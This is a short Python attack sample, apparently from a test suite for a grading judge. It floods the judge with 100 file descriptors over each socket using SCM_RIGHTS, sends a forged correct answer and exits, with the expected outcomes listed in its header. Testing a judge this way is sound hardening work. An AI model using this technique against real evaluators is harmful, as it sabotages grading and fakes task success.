# /// attack
# does = "sends the judge descriptors along with the right answer, a hundred at a time, and exits"
# own = { softmax = ["crashed", "protocol"] }
# quick = true
# forger = true
# ///
"""A process of another user may be handed over as a pidfd, and a flood of descriptors uses up the judge's. The
judge makes no room for any, so the kernel drops them."""

import array
import contextlib
import os
import socket


def softmax(logits):
    given = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    beside = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", given))]
    for number in ends():
        with contextlib.suppress(OSError):
            socket.socket(fileno=os.dup(number)).sendmsg([value(request().id, right(logits))], beside)
    os._exit(0)
